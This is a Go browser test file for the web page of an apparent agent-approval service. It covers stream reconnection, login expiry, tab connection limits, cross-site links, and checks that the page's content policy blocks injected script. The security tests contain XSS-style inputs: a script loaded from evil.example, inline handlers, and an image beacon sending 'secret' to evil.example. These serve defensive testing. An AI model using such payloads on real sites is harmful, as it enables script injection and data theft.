package page_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/claude-agent-go/claude/internal/test/browser"
)

// isStream reports whether a request is for a stream of events.
func isStream(r *http.Request) bool {
	return r.URL.Path == "/v1/feed" || strings.HasSuffix(r.URL.Path, "/events")
}

// until waits for what the browser does to the server.
func until(t *testing.T, b *browser.Browser, what string, is func() bool) {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); !is(); {
		if time.Now().After(deadline) {
			t.Fatalf("%s does not come", what)
		}
		b.Eval(t, `new Promise(done => setTimeout(done, 20))`) // between two looks at another process
	}
}

// A browser gives up an EventSource for good when it is answered with anything but 200.
// The page makes a new one, whatever a proxy or a starting server has answered, and
// then has everything that it missed.
func TestStreamRefused(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	r.open(b)
	for i, status := range []int{http.StatusNoContent, http.StatusTooManyRequests, http.StatusBadGateway, http.StatusServiceUnavailable} {
		var refused, reached atomic.Int64
		front := func(w http.ResponseWriter, req *http.Request) bool {
			if !isStream(req) {
				return false
			}
			if refused.Add(1) == 1 {
				w.WriteHeader(status)
				return true
			}
			reached.Add(1)
			return false
		}
		r.front.Store(&front)
		b.Load(t, r.http.URL+"/")
		until(t, b, fmt.Sprint("a new stream after ", status), func() bool { return reached.Load() > 0 })
		r.begin("shop-api", "Clean up the build")
		b.Wait(t, fmt.Sprintf(`document.querySelectorAll(".card [data-key-a]").length === %d && document.getElementById("connection").hidden`, i+1))
	}
	complaints(t, r, b, "Failed to load resource")
}

// An open stream that is silent, without even a heartbeat, is dead: after 25 seconds
// the page opens a new one, and meanwhile shows that calmly.
func TestSilentStream(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	var streams atomic.Int64
	front := func(w http.ResponseWriter, req *http.Request) bool {
		if !isStream(req) || streams.Add(1) > 1 {
			return false
		}
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "retry: 2000\n\n")
		_ = http.NewResponseController(w).Flush() // the browser sees it open, or the test fails
		<-req.Context().Done()
		return true
	}
	b.Must("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": `{
		const every = setInterval, now = Date.now;
		setInterval = (f, ms) => every(f, ms === 5000 ? 50 : ms); // how often the page looks
		window.later = 0;
		Date.now = () => now() + window.later;
	}`}, nil)
	r.front.Store(&front)
	r.open(b)
	r.begin("shop-api", "Clean up the build")
	r.pending(1)
	b.Eval(t, `window.bar = new Promise(done => new MutationObserver(() => done(document.getElementById("connection").textContent)).observe(document.getElementById("connection"), { childList: true })); window.later = 24000; new Promise(done => setTimeout(done, 200))`)
	b.Want(t, `document.querySelectorAll(".card").length`, 0)
	if n := streams.Load(); n != 1 {
		t.Fatalf("there were %d streams before the first was dead", n)
	}
	b.Eval(t, `window.later = 26000`)
	b.Want(t, `window.bar`, "The connection was lost. Trying again…")
	b.Wait(t, `document.querySelector(".card") && document.getElementById("connection").hidden`)
	complaints(t, r, b)
}

// When a login ends, an open page asks for the next one, and leads back to where it
// was.
func TestLoginEndsWhilePageIsOpen(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	r.open(b)
	path := r.begin("shop-api", "hello")
	r.settled(path)
	b.Load(t, r.http.URL+path)
	b.Eval(t, `fetch("/logout", { method: "POST", redirect: "manual" }).then(() => 0)`) // as in another tab
	r.settled(r.begin("shop-api", "something else happens"))
	b.Wait(t, `document.documentElement.dataset.screen === "login" && document.getElementById("token")`)
	b.Eval(t, `document.getElementById("token").focus()`)
	b.Type(r.link(ada)) // the whole link
	b.Press("Enter")
	b.Wait(t, fmt.Sprintf(`document.documentElement.dataset.screen === "conversation" && location.pathname === %q`, path))
	complaints(t, r, b, "401 (Unauthorized)")
}

// When the server no longer has the position of a page, the page loads the conversation
// again and continues after it, with everything shown once.
func TestStreamReset(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	r.open(b)
	path := r.begin("shop-api", "first")
	r.settled(path)
	var resets atomic.Int64
	front := func(w http.ResponseWriter, req *http.Request) bool {
		if !isStream(req) || resets.Add(1) > 1 {
			return false
		}
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "retry: 2000\n\nevent: reset\ndata: {\"reason\":\"gone\"}\n\n")
		return true
	}
	r.front.Store(&front)
	b.Load(t, r.http.URL+path)
	until(t, b, "the next stream", func() bool { return resets.Load() > 1 })
	b.Eval(t, `document.getElementById("prompt").focus()`)
	b.Type("second")
	b.Press("Enter")
	b.Wait(t, `document.querySelectorAll(".end").length === 2`)
	b.Want(t, `[...document.querySelectorAll(".item.text")].map(i => i.textContent.trim()).join()`, "You said: first,You said: second")
	complaints(t, r, b)
}

// A tab has one stream, whatever it shows, and none while it is hidden: a browser
// has six connections to a server, and all tabs share them.
func TestOneStreamInEachTab(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	var open, most atomic.Int64
	front := func(w http.ResponseWriter, req *http.Request) bool {
		if !isStream(req) {
			return false
		}
		most.Store(max(most.Load(), open.Add(1)))
		defer open.Add(-1)
		r.server.ServeHTTP(w, req)
		return true
	}
	r.front.Store(&front)
	r.open(b)
	path := r.begin("shop-api", "Clean up the build")
	b.Wait(t, `document.querySelector(".card")`)
	b.Load(t, r.http.URL+path)
	b.Wait(t, `document.querySelector(".card")`)
	count := func(want int64) {
		t.Helper()
		until(t, b, fmt.Sprint("the number of streams ", want), func() bool { return open.Load() == want })
	}
	count(1)
	hide := func(hidden bool) {
		b.Eval(t, fmt.Sprintf(`Object.defineProperty(document, "hidden", { value: %t, configurable: true }); document.dispatchEvent(new Event("visibilitychange"))`, hidden))
	}
	hide(true)
	count(0)
	r.begin("shop-api", "Which database?") // while the tab is hidden
	r.pending(2)
	hide(false)
	count(1)
	b.Wait(t, `document.title.startsWith("(2) ")`)
	if most.Load() > 2 { // one more while a page takes the place of another
		t.Errorf("there were %d streams at once", most.Load())
	}
	complaints(t, r, b)
}

// A link in a mail or a chat, which is another site, opens the approval for
// a user who is logged in.
func TestLinkFromAnotherSite(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	r.open(b)
	r.begin("shop-api", "Clean up the build")
	a := r.pending(1)[0]
	chat := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprintf(w, `<!DOCTYPE html><title>Chat</title><link rel="icon" href="data:,"><a href="%s/a/%s">An agent waits</a>`, r.http.URL, a.ID)
	}))
	defer chat.Close()
	b.Load(t, strings.Replace(chat.URL, "127.0.0.1", "localhost", 1)) // another site for cookies
	b.Eval(t, `document.querySelector("a").click()`)
	b.Wait(t, `document.documentElement.dataset.screen === "approval" && document.querySelector(".card [data-key-a]")`)
	complaints(t, r, b)
}

// Text from a model or a tool is inert in a browser: no script in it runs, and nothing
// is loaded from elsewhere.
func TestHostileTextInBrowser(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	r.open(b)
	path := r.begin("shop-api", "hostile long "+hostile)
	r.settled(path)
	for _, screen := range []string{path, path + "/changes", "/h", "/"} {
		b.Load(t, r.http.URL+screen)
		b.Eval(t, `document.querySelectorAll("details:not(.me)").forEach(d => { d.open = true })`)
		b.Want(t, `typeof window.pwned`, "undefined")
		b.Want(t, `document.querySelectorAll("main script, main img, main iframe, main svg[onload], main [onerror], main [style]").length`, 0)
	}
	complaints(t, r, b)
}

// The policy of the page holds in a browser: only the page's own script turns text
// into markup, no other script runs, and nothing is sent elsewhere.
func TestPolicyHolds(t *testing.T) {
	r := newRig(t)
	b := chromium.Open(t)
	r.open(b)
	for what, try := range map[string]string{
		"markup":           `document.body.innerHTML = "<b>x</b>"`,
		"a second policy":  `trustedTypes.createPolicy("page", { createHTML: x => x })`,
		"another policy":   `trustedTypes.createPolicy("mine", { createHTML: x => x })`,
		"a handler":        `document.createElement("b").setAttribute("onclick", "window.pwned = 1")`,
		"another's script": `document.createElement("script").src = "https://evil.example/x.js"`,
		"a script":         `document.createElement("script").text = "window.pwned = 1"`,
	} {
		b.Want(t, fmt.Sprintf(`(() => { try { %s; return "done" } catch (e) { return e.name } })()`, try), "TypeError")
		if t.Failed() {
			t.Fatalf("%s is not refused", what)
		}
	}
	b.Eval(t, `(() => { const i = new Image(); i.src = "https://evil.example/?q=secret"; document.body.append(i) })()`)
	b.Want(t, `fetch("https://evil.example/").then(() => "sent", e => e.name)`, "TypeError")
	b.Want(t, `typeof window.pwned`, "undefined")
	complaints(t, r, b, "Content Security Policy", "requires 'Trusted", "evil.example", "TrustedTypePolicy")
}
